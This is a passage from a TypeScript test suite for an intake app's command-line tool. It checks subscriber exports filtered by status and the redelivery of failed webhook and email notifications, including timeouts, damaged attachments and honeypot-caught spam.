            verification: "unavailable",
            consent: {
              at: "2025-02-01T10:00:00.000Z",
              method: "single",
              site: "unknown",
              ipHash: null,
              verification: "unavailable",
            },
          },
          {
            email: "ada@example.com",
            topics: ["AI", "Research", "Quantum"],
            status: "confirmed",
            subscribedAt: "2025-01-01T10:00:00.000Z",
            updatedAt: "2025-03-01T10:00:00.000Z",
            confirmedAt: "2025-01-01T10:00:00.000Z",
            unsubscribedAt: null,
            verification: "passed",
            consent: {
              at: "2025-01-01T10:00:00.000Z",
              method: "single",
              site: "unknown",
              ipHash: null,
              verification: "passed",
            },
          },
        ]);
      });

      it("exports only confirmed subscribers by default; --status picks another status, or all", async () => {
        const at = (day: number) => new Date(`2025-04-0${day}T10:00:00Z`);
        const doubleOptIn = { doubleOptIn: true };
        await subscribe(
          store,
          { email: "pending@example.com", topics: ["AI"] },
          at(1),
          undefined,
          doubleOptIn,
        );
        await subscribe(store, { email: "kept@example.com", topics: [] }, at(2), undefined, doubleOptIn);
        await confirmSubscriber(store, subscriberId("kept@example.com"), at(3));
        await subscribe(store, { email: "left@example.com", topics: [] }, at(4));
        await unsubscribeSubscriber(store, subscriberId("left@example.com"), at(5));

        const emails = (stdout: string) => parseCsvObjects(stdout).map((row) => `${row.email} ${row.status}`);
        expect(emails((await run(["subscribers", "--csv"])).stdout)).toEqual(["kept@example.com confirmed"]);
        expect(
          (JSON.parse((await run(["subscribers", "--json"])).stdout) as { email: string }[]).map(
            (record) => record.email,
          ),
        ).toEqual(["kept@example.com"]);
        expect(emails((await run(["subscribers", "--csv", "--status", "pending"])).stdout)).toEqual([
          "pending@example.com pending",
        ]);
        expect(emails((await run(["subscribers", "--csv", "--status", "unsubscribed"])).stdout)).toEqual([
          "left@example.com unsubscribed",
        ]);
        expect(emails((await run(["subscribers", "--csv", "--status", "all"])).stdout)).toEqual([
          "left@example.com unsubscribed",
          "kept@example.com confirmed",
          "pending@example.com pending",
        ]);

        const table = await run(["subscribers"]);
        expect(lines(table.stdout).at(-1)).toBe(
          `1 confirmed subscriber in ${inbox.name} (not shown: 1 pending, 1 unsubscribed; --status all shows every one)`,
        );
        const everyone = await run(["subscribers", "--status", "all"]);
        expect(
          lines(everyone.stdout)
            .slice(1, 4)
            .map((row) => row.split(/\s+/).slice(0, 2).join(" ")),
        ).toEqual([
          "left@example.com unsubscribed",
          "kept@example.com confirmed",
          "pending@example.com pending",
        ]);
        expect(lines(everyone.stdout).at(-1)).toBe(`3 subscribers in ${inbox.name}`);
      });
    });

    describe("redeliver", () => {
      const secret = `whsec_${randomBytes(32).toString("base64")}`;
      let receiver: WebhookReceiver;
      let smtp: SmtpTestServer;
      let channels: Record<string, string>;
      const earlier = "2025-11-01T10:00:05.000Z";

      beforeAll(async () => {
        receiver = await startWebhookReceiver();
        smtp = await startSmtpServer();
        channels = {
          WEBHOOK_URL: `${receiver.url}/hooks/intake`,
          WEBHOOK_SECRET: secret,
          SMTP_URL: smtp.url,
          EMAIL_FROM: "Studio Intake <intake@studio.example>",
          EMAIL_TO: "ops@studio.example",
          NOTIFY_TIMEOUT_MS: "3000",
        };
      });

      afterEach(() => {
        receiver.answer({ status: 204 });
        receiver.received.length = 0;
        smtp.received.length = 0;
        smtp.behave("accept");
      });

      afterAll(async () => {
        await receiver?.stop();
        await smtp?.stop();
      });

      const failedWebhook: DeliveryInput = {
        webhook: { ok: false, at: earlier, error: "fetch failed: connect ECONNREFUSED 127.0.0.1:9" },
        email: { ok: true, at: earlier },
      };

      it("--failed sends a brief whose webhook failed once the receiver is back, records it, and a second run does nothing", async () => {
        const pdf = makePdf("Redelivered");
        const failed = await storeBrief(store, {
          receivedAt: "2025-11-01T10:00:00.000Z",
          attachment: attachmentFor(pdf, "plan.pdf", "application/pdf", "pdf"),
          delivery: failedWebhook,
        });
        const fine = await storeBrief(store, {
          receivedAt: "2025-11-02T10:00:00.000Z",
          delivery: { webhook: { ok: true, at: earlier }, email: { ok: true, at: earlier } },
        });
        const unconfigured = await storeBrief(store, {
          receivedAt: "2025-11-03T10:00:00.000Z",
          delivery: {},
        });
        const caught = await storeBrief(store, { receivedAt: "2025-11-01T09:00:00.000Z", folder: "spam" });

        const startedAt = Date.now();
        const result = await run(["redeliver", "--failed"], channels);
        expect(result.stderr).toBe("");
        expect(result.code).toBe(0);
        expect(result.stdout).toBe(
          `${failed.record.reference}  webhook ✓ delivered\n1 brief looked at: 1 delivered or left alone, 0 still failing.\n`,
        );

        // Only the failed channel of the failed brief was tried: no email, nothing for the others or the spam.
        expect(receiver.received).toHaveLength(1);
        expect(smtp.received).toHaveLength(0);
        const [request] = receiver.forReference(failed.record.reference);
        expect(request?.headers["webhook-id"]).toBe(`msg_${failed.record.reference}`);
        const payload = new Webhook(secret).verify(request?.body ?? "", {
          "webhook-id": String(request?.headers["webhook-id"]),
          "webhook-timestamp": String(request?.headers["webhook-timestamp"]),
          "webhook-signature": String(request?.headers["webhook-signature"]),
        }) as { type: string; reference: string; attachment: { sha256: string } };
        expect(payload.type).toBe("brief.received");
        expect(payload.reference).toBe(failed.record.reference);
        expect(payload.attachment.sha256).toBe(failed.record.attachment?.sha256);

        const delivery = await readJson<Delivery>(store, `${failed.folder}/delivery.json`);
        // The webhook's log now has both attempts; the email's record, untouched, reads as before.
        expect(delivery?.webhook).toMatchObject({ state: "delivered", ok: true, attempts: 2 });
        expect(delivery?.webhook?.log).toEqual([
          { at: earlier, ok: false, ms: 0, error: failedWebhook.webhook?.error },
          { at: expect.any(String), ok: true, ms: expect.any(Number), status: 204 },
        ]);
        expect(delivery?.email).toEqual(parseDeliveryRecord(failedWebhook).email);
        expect(Date.parse(delivery?.webhook?.at ?? "")).toBeGreaterThanOrEqual(startedAt - 1000);
        expect(await readJson(store, `${fine.folder}/delivery.json`)).toEqual({
          webhook: { ok: true, at: earlier },
          email: { ok: true, at: earlier },
        });
        expect(await readJson(store, `${unconfigured.folder}/delivery.json`)).toEqual({});
        expect(await readJson(store, `${caught.folder}/delivery.json`)).toBeNull();

        const second = await run(["redeliver", "--failed"], channels);
        expect(second.code).toBe(0);
        expect(second.stdout).toBe("Nothing to redeliver: every brief's channels succeeded.\n");
        expect(receiver.received).toHaveLength(1);

        const list = await run(["list"], channels);
        expect(rowOf(list.stdout, failed.record.reference)).toMatch(/webhook ✓ email ✓$/);
      });

      it("a channel that fails again is recorded with its new error, and the exit status is 1", async () => {
        const brief = await storeBrief(store, {
          receivedAt: "2025-11-04T10:00:00.000Z",
          delivery: failedWebhook,
        });
        receiver.answer({ status: 500 });
        const result = await run(["redeliver", "--failed"], channels);
        expect(result.code).toBe(1);
        expect(result.stdout).toContain(
          `${brief.record.reference}  webhook ✗ failed again: answered HTTP 500\n`,
        );
        expect(result.stdout).toContain("0 delivered or left alone, 1 still failing.");
        const delivery = await readJson<Delivery>(store, `${brief.folder}/delivery.json`);
        // It had given up before: one more try, not a new schedule.
        expect(delivery?.webhook).toMatchObject({
          state: "failed",
          ok: false,
          attempts: 2,
          error: "answered HTTP 500",
        });
        expect(delivery?.webhook?.log.at(-1)).toEqual({
          at: expect.any(String),
          ok: false,
          ms: expect.any(Number),
          status: 500,
          error: "answered HTTP 500",
        });
        expect(delivery?.webhook?.at).not.toBe(earlier);
        expect(delivery?.email).toEqual(parseDeliveryRecord(failedWebhook).email);
      });

      it("a failed email is sent again with the file attached, for a reference typed any way", async () => {
        const png = makePng(12, 12);
        const brief = await storeBrief(store, {
          receivedAt: "2025-11-05T10:00:00.000Z",
          attachment: attachmentFor(png, "whiteboard.png", "image/png", "png"),
          delivery: {
            webhook: { ok: true, at: earlier },
            email: { ok: false, at: earlier, error: "421 try again later" },
          },
        });
        const result = await run(["redeliver", compact(brief.record.reference)], channels);
        expect(result.code).toBe(0);
        expect(result.stdout).toBe(`${brief.record.reference}  email ✓ delivered\n`);
        expect(receiver.received).toHaveLength(0);
        const [mail] = smtp.forReference(brief.record.reference);
        expect(mail?.parsed.subject).toBe(`New brief ${brief.record.reference} from Ada Lovelace`);
        const [attached] = mail?.parsed.attachments ?? [];
        expect(attached?.filename).toBe("whiteboard.png");
        expect(Buffer.from(attached?.content as ArrayBuffer).equals(Buffer.from(png))).toBe(true);
        expect((await readJson<Delivery>(store, `${brief.folder}/delivery.json`))?.email?.ok).toBe(true);

        const nothing = await run(["redeliver", brief.record.reference], channels);
        expect(nothing.code).toBe(0);
        expect(nothing.stdout).toBe(`${brief.record.reference}  nothing to redeliver\n`);
        expect(smtp.received).toHaveLength(1);
      });

      it("a brief with no delivery.json goes to every channel once it is old enough; a fresh one is left alone", async () => {
        const lost = await storeBrief(store, { receivedAt: new Date(Date.now() - 3_600_000).toISOString() });
        const fresh = await storeBrief(store, { receivedAt: new Date().toISOString() });
        const result = await run(["redeliver", "--failed"], channels);
        expect(result.code).toBe(0);
        expect(result.stdout).toContain(`${lost.record.reference}  webhook ✓ delivered; email ✓ delivered\n`);
        expect(result.stdout).toMatch(
          new RegExp(`${fresh.record.reference}  left alone: received \\d+ s ago with no delivery.json yet`),
        );
        expect(receiver.forReference(lost.record.reference)).toHaveLength(1);
        expect(smtp.forReference(lost.record.reference)).toHaveLength(1);
        expect(receiver.forReference(fresh.record.reference)).toHaveLength(0);
        expect(await readJson(store, `${lost.folder}/delivery.json`)).toMatchObject({
          webhook: { state: "delivered", ok: true, attempts: 1 },
          email: { state: "delivered", ok: true, attempts: 1 },
        });
        expect(await readJson(store, `${fresh.folder}/delivery.json`)).toBeNull();
      });

      it("a failed channel that is not configured here is reported, left as it was, and exits 1", async () => {
        const brief = await storeBrief(store, {
          receivedAt: "2025-11-06T10:00:00.000Z",
          delivery: {
            webhook: { ok: true, at: earlier },
            email: { ok: false, at: earlier, error: "550 no" },
          },
        });
        const result = await run(["redeliver", brief.record.reference], {
          WEBHOOK_URL: channels.WEBHOOK_URL ?? "",
        });
        expect(result.code).toBe(1);
        expect(result.stdout).toBe(
          `${brief.record.reference}  email ✗ not configured here, not retried (failed: 550 no)\n`,
        );
        expect(receiver.received).toHaveLength(0);
        expect((await readJson<Delivery>(store, `${brief.folder}/delivery.json`))?.email).toEqual({
          ok: false,
          at: earlier,
          error: "550 no",
        });
      });

      it("a receiver that hangs is cut off after NOTIFY_TIMEOUT_MS, as in the app", async () => {
        const brief = await storeBrief(store, {
          receivedAt: "2025-11-07T10:00:00.000Z",
          delivery: failedWebhook,
        });
        receiver.answer("hang");
        const result = await run(["redeliver", "--failed"], { ...channels, NOTIFY_TIMEOUT_MS: "800" });
        expect(result.code).toBe(1);
        expect(result.stdout).toContain(
          `${brief.record.reference}  webhook ✗ failed again: no answer within 800 ms`,
        );
        expect(receiver.received).toHaveLength(1);
        expect((await readJson<Delivery>(store, `${brief.folder}/delivery.json`))?.webhook?.error).toBe(
          "no answer within 800 ms",
        );
      });

      it("a damaged attachment is not mailed: the brief is reported and the attempt recorded as failed", async () => {
        const brief = await storeBrief(store, {
          receivedAt: "2025-11-08T10:00:00.000Z",
          attachment: attachmentFor(makePdf("Good"), "plan.pdf", "application/pdf", "pdf"),
          delivery: {
            webhook: { ok: true, at: earlier },
            email: { ok: false, at: earlier, error: "timeout" },
          },
        });
        await store.put(`${brief.folder}/attachment.pdf`, makePdf("Bad"), "application/pdf");
        const result = await run(["redeliver", "--failed"], channels);
        expect(result.code).toBe(1);
        expect(result.stdout).toContain(
          `${brief.record.reference}  email ✗ failed again: not sent: the attachment of brief ${brief.record.reference} does not match brief.json`,
        );
        expect(smtp.received).toHaveLength(0);
        // Recorded, for good: no later attempt would find the file any better.
        const email = (await readJson<Delivery>(store, `${brief.folder}/delivery.json`))?.email;
        expect(email).toMatchObject({ state: "failed", attempts: 2 });
        expect(email?.error).toContain("the stored file has been changed or damaged");
      });

      it("never redelivers a honeypot catch, even by its reference", async () => {
        const caught = await storeBrief(store, {
          receivedAt: "2025-11-09T10:00:00.000Z",
          folder: "spam",
          delivery: { webhook: { ok: false, at: earlier, error: "made up" } },
        });
        const byReference = await run(["redeliver", caught.record.reference], channels);
        expect(byReference.code).toBe(1);
        expect(byReference.stderr).toBe(
          `inbox: brief ${caught.record.reference} was caught by the honeypot; spam is never redelivered\n`,
        );
        const failed = await run(["redeliver", "--failed"], channels);
        expect(failed.code).toBe(0);
        expect(failed.stdout).not.toContain(caught.record.reference);
        expect(receiver.received).toHaveLength(0);
        expect(smtp.received).toHaveLength(0);
      });

      it("--failed --since leaves older failures alone", async () => {
        const old = await storeBrief(store, {
          receivedAt: "2025-10-01T10:00:00.000Z",
          delivery: failedWebhook,
        });
        const recent = await storeBrief(store, {
          receivedAt: "2025-11-10T10:00:00.000Z",
          delivery: failedWebhook,
        });
        const result = await run(["redeliver", "--failed", "--since", "2025-11-01"], channels);
        expect(result.code).toBe(0);
        expect(result.stdout).toContain(`${recent.record.reference}  webhook ✓ delivered`);
        expect(result.stdout).not.toContain(old.record.reference);
        expect(receiver.forReference(old.record.reference)).toHaveLength(0);
      });
    });
  });
}
